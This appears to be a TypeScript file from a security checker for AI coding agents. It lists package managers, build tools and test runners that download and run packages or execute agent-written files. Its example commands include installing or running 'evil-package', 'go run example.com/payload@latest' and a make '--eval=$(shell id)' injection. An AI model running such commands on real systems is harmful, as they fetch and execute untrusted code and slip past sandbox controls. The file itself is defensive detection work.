import { anywhere, cap, PACKAGE, PROJECT, RUNS_CODE } from '../build';
import type { Capability, ProgramEntry } from '../types';

/** Runs code from files the agent can write in the project (a script entry, a build or test file). */
const project = (id: string, via: string, reason: string, source: string, writes: string, witnesses: string[], more: Partial<Capability> = {}) =>
  cap(PROJECT, id, via, reason, source, witnesses, { writes, ...more });

/** Downloads a package and runs it (or its install scripts). */
const remote = (id: string, via: string, reason: string, source: string, witnesses: string[]) => cap(PACKAGE, id, via, reason, source, witnesses);

/** Arguments after a script name reach the script; the script is still the one package.json names. */
const scriptArgs = (fixed: readonly string[]) => (['test', 't', 'start', 'run', 'run-script'].includes(fixed[0]) ? anywhere('-- x')(fixed) : undefined);

/** Package managers, package runners, build and test tools. */
export const PACKAGES: readonly ProgramEntry[] = [
  { names: ['npx', 'bunx', 'pnpx'], capabilities: [remote('npx.run', 'PACKAGE', 'downloads and runs any package (without a TTY, npx installs without asking)', 'npm-exec(1): --yes is assumed when stdin is not a TTY', ['{P} -y evil-package', '{P} evil-package'])] },
  {
    names: ['npm'],
    capabilities: [
      remote('npm.exec', 'exec PACKAGE', 'npm exec downloads and runs any package', 'npm-exec(1)', ['{P} exec -y evil-package', '{P} exec evil-package', '{P} x evil-package']),
      remote('npm.install', 'install PACKAGE', "installing a package runs its lifecycle scripts (preinstall, install, postinstall)", 'npm-install(1), scripts(7)', ['{P} install evil-package', '{P} i evil-package']),
      project('npm.scripts', 'run SCRIPT', 'npm run, test and start run package.json scripts the agent can write', 'npm-run(1)', 'package.json', ['{P} run payload', '{P} test', '{P} start'], { extend: scriptArgs }),
    ],
  },
  {
    names: ['pnpm'],
    capabilities: [
      remote('pnpm.dlx', 'dlx PACKAGE', 'pnpm dlx downloads and runs any package', 'pnpm dlx', ['{P} dlx evil-package']),
      project('pnpm.scripts', 'run SCRIPT', 'pnpm run and test run package.json scripts the agent can write', 'pnpm run', 'package.json', ['{P} run payload', '{P} test'], { extend: scriptArgs }),
    ],
  },
  {
    names: ['yarn'],
    capabilities: [
      remote('yarn.dlx', 'dlx PACKAGE', 'yarn dlx downloads and runs any package', 'yarn dlx', ['{P} dlx evil-package']),
      remote('yarn.add', 'add PACKAGE', 'adding a package runs its install scripts', 'yarn add; scripts(7)', ['{P} add evil-package']),
      project('yarn.scripts', 'run SCRIPT', 'yarn run runs package.json scripts the agent can write', 'yarn run', 'package.json', ['{P} run payload', '{P} test'], { extend: scriptArgs }),
    ],
  },
  {
    names: ['uv'],
    capabilities: [
      cap(RUNS_CODE, 'uv.run-inline', "run python -c CODE", 'uv run runs any command, an interpreter with inline code too', 'uv run --help', ["{P} run python -c 'import os'"]),
      remote('uv.tool', 'tool run PACKAGE', 'uv tool run downloads and runs any tool', 'uv tool run --help', ['{P} tool run evil-package', '{P} run --with evil-package python']),
      project('uv.run-file', 'run FILE', 'uv run runs any script the agent can write', 'uv run --help', 'payload.py', ['{P} run ./payload.py']),
    ],
  },
  { names: ['uvx'], capabilities: [remote('uvx.run', 'PACKAGE', 'downloads and runs any tool', 'uvx --help', ['{P} evil-package'])] },
  { names: ['pipx'], capabilities: [remote('pipx.run', 'run PACKAGE', 'pipx run downloads and runs any tool', 'pipx run --help', ['{P} run evil-package'])] },
  { names: ['pip', 'pip3'], capabilities: [remote('pip.install', 'install PACKAGE', "installing a source package runs its build code (setup.py)", 'pip install: building from source distributions', ['{P} install evil-package'])] },
  {
    names: ['go'],
    capabilities: [
      remote('go.run-remote', 'run MODULE@VERSION', 'go run downloads, builds and runs a module from any host', 'go help run: package@version', ['{P} run example.com/payload@latest']),
      project('go.run', 'run, test, generate', 'go run, test and generate build and run code the agent can write', 'go help run, go help test, go help generate', 'payload.go', ['{P} run ./payload.go', '{P} test ./...', '{P} generate ./...']),
    ],
  },
  {
    names: ['cargo'],
    capabilities: [
      remote('cargo.install', 'install CRATE', "installing a crate builds it, running its build script", 'cargo install; build scripts', ['{P} install evil-crate']),
      project('cargo.build', 'run, build, test', 'cargo runs build scripts and code the agent can write', 'cargo book: build scripts', 'build.rs', ['{P} run', '{P} build', '{P} test']),
    ],
  },
  { names: ['gem'], capabilities: [remote('gem.install', 'install GEM', 'installing a gem builds its native extensions, running their build code', 'gem install', ['{P} install evil-gem'])] },
  { names: ['brew'], capabilities: [remote('brew.install', 'install TAP/FORMULA', 'a formula from any tap is Ruby code that runs on install', 'brew install; Formula Cookbook', ['{P} install evil/tap/formula'])] },
  {
    names: ['make', 'gmake'],
    capabilities: [
      cap({ ...RUNS_CODE, group: 'exec-flag' }, 'make.eval', "--eval='$(shell …)'", "GNU make's --eval reads makefile text, and $(shell …) in it runs at once", 'GNU make manual: --eval, the shell function', ["{P} '--eval=$(shell id)'"], { extend: anywhere("'--eval=$(shell id)'") }),
      project('make.file', '-f FILE', 'make runs the recipes of a makefile the agent can write', 'GNU make manual: -f', 'payload.mk', ['{P} -f ./payload.mk'], { extend: anywhere('-f ./payload.mk') }),
    ],
  },
  { names: ['just'], capabilities: [project('just.file', '--justfile FILE', 'just runs the recipes of a justfile the agent can write', 'just --help', 'payload.just', ['{P} --justfile ./payload.just'])] },
  {
    names: ['pytest', 'py.test'],
    capabilities: [project('pytest.tests', 'TEST FILE', 'pytest imports and runs test files and conftest.py the agent can write', 'pytest docs: conftest.py', 'test_payload.py', ['{P} ./test_payload.py'], { extend: anywhere('./test_payload.py') })],
  },
  { names: ['tox', 'nox'], capabilities: [project('tox.run', 'ENV', 'tox and nox run the commands of a config file the agent can write', 'tox, nox docs', 'tox.ini', ['{P}'])] },
  { names: ['gradle', 'gradlew', 'mvn', 'mvnw'], capabilities: [project('gradle.build', 'TASK', 'builds run the code of build files the agent can write', 'Gradle, Maven docs', 'build.gradle', ['{P} build'])] },
  { names: ['rake'], capabilities: [project('rake.run', 'TASK', 'rake runs the tasks of a Rakefile the agent can write', 'rake(1)', 'Rakefile', ['{P} payload'])] },
  { names: ['bundle'], capabilities: [project('bundle.exec', 'exec COMMAND', 'bundle exec runs any command, a Ruby file the agent writes too', 'bundle exec --help', 'payload.rb', ['{P} exec ruby ./payload.rb'])] },
  { names: ['jest', 'vitest', 'mocha', 'playwright'], capabilities: [project('jest.tests', 'TEST FILE', 'a test runner runs test and config files the agent can write', 'jest, vitest, mocha docs', 'payload.test.js', ['{P} ./payload.test.js'])] },
  { names: ['dotnet'], capabilities: [project('dotnet.run', 'run, test, build', 'dotnet builds and runs projects the agent can write (MSBuild tasks run code)', 'dotnet run --help', 'Program.cs', ['{P} run', '{P} test'])] },
];
